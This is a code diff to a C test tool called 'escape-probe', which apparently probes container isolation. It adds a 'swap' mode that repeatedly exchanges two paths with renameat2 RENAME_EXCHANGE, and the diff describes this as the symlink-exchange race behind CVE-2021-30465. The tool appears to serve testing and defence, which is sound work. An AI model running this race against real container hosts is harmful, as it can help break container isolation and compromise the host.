@@ -16,7 +16,11 @@
  *         "reached <pid> <what> <detail>" something of a non-container
  *                                       executable was opened (an escape)
  *       and at the end "done <pids seen> <attempts>". Writes "ready\n" to
- *       stderr once the first scan is over. */
+ *       stderr once the first scan is over.
+ *   escape-probe swap A B MS
+ *       exchange paths A and B (renameat2 RENAME_EXCHANGE) in a loop for MS
+ *       milliseconds, the symlink-exchange race of CVE-2021-30465; prints
+ *       "swapped <count>". */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -233,10 +237,26 @@ static int do_watch(int argc, char **argv) {
   return 0;
 }
 
+static int do_swap(int argc, char **argv) {
+  if (argc < 3) return 2;
+  double until = now_ms() + atof(argv[2]);
+  long n = 0;
+  while (now_ms() < until) {
+    if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) < 0) {
+      printf("err %s\n", ename(errno));
+      return 1;
+    }
+    n++;
+  }
+  printf("swapped %ld\n", n);
+  return 0;
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc >= 3 && strcmp(argv[1], "syscall") == 0) return do_syscall(argc - 2, argv + 2);
   if (argc >= 3 && strcmp(argv[1], "watch") == 0) return do_watch(argc - 2, argv + 2);
-  fprintf(stderr, "usage: escape-probe syscall NR [ARG...] | watch MS ALLOWED\n");
+  if (argc >= 5 && strcmp(argv[1], "swap") == 0) return do_swap(argc - 2, argv + 2);
+  fprintf(stderr, "usage: escape-probe syscall NR [ARG...] | watch MS ALLOWED | swap A B MS\n");
   return 2;
 }
